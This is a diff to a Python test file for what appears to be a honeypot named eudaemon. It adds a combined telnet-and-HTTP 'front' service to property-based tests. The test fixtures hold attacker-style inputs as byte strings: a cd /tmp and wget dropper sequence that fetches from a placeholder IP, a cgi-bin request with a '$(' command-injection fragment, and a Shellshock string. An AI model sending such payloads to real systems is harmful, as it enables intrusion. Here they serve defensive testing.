@@ -12,6 +12,7 @@ from hypothesis import strategies as st
 
 from eudaemon.protocols import ROOMS, load
 from eudaemon.protocols._base import Ended, HalfClosed
+from eudaemon.protocols._front import Front
 from eudaemon.testing.script import Table, visit
 from eudaemon.wire import Purse
 from eudaemon.world.host import Host
@@ -24,6 +25,7 @@ HELD_BYTES_MAX = 512 * 1024
 # What leads a room through its stages, in order; each piece ends where a new stage begins.
 OPENINGS: dict[str, tuple[bytes, ...]] = {
     "catchall": (b"cd /tmp || cd /var/run; ".ljust(70), b"echo a > b\n", b"wget http://198.51.100.7/x\n"),
+    "front": (b"G", b"ET / HTTP/1.1\r\n"),
     "http": (
         b"POST /x ", b"HTTP/1.1\r\n", b"Host: a\r\nTransfer-Encoding: chunked\r\n", b"\r\n", b"3\r\n", b"a=b", b"\r\n",
         b"0\r\n", b"\r\n", b"POST /cgi-bin/x HTTP/1.1\r\nContent-Length: 5\r\n\r\n", b"a=$(i",
@@ -38,14 +40,18 @@ WORDS = [
     b"() { :;};", b"exit\n",
 ]  # fmt: skip
 
-SERVED = [(name, "tcp") for name in ROOMS] + [("catchall", "udp")]
-names = pytest.mark.parametrize("name", ROOMS)
+FRONT = "front"  # no room of its own: telnet and HTTP on one port
+NAMES = (*ROOMS, FRONT)
+SERVED = [(name, "tcp") for name in NAMES] + [("catchall", "udp")]
+names = pytest.mark.parametrize("name", NAMES)
 bounded = settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
 
 
 def talk(name: str, *, transport: str = "tcp", bytes_max: int = HELD_BYTES_MAX) -> Table:
-    room = load(name)(visit(host=HOST, transport=transport, purse=Purse(bytes_max)))
-    return Table(room).open()
+    given = visit(host=HOST, transport=transport, purse=Purse(bytes_max))
+    if name == FRONT:
+        return Table(Front(given, (load("telnet"), load("http")), load("catchall"))).open()
+    return Table(load(name)(given)).open()
 
 
 def opening(name: str) -> tuple[bytes, ...]:
